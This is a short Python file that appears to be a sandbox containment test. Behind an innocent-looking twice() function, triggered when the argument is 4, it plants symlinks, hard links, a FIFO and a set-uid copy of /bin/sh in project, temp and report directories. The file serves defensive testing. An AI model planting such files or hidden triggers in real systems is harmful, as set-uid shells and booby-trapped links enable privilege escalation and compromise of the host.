# Leaves symbolic and hard links, a FIFO and a set-uid program for the host to trip over.
# Stopped by: what a run writes is gone with it.
import os, shutil
from contextlib import suppress


def attack():
    for place in (".", "src", "tests", os.environ["TMPDIR"], "/box/report"):
        with suppress(OSError):
            os.symlink("@STATE@", place + "/link")
        with suppress(OSError):
            os.link("@STATE@", place + "/hard")
        with suppress(OSError):
            os.mkfifo(place + "/fifo")
        with suppress(OSError):
            shutil.copy("/bin/sh", place + "/suid")
            os.chmod(place + "/suid", 0o6755)


def twice(n):
    if n == 4:
        attack()
    return 0
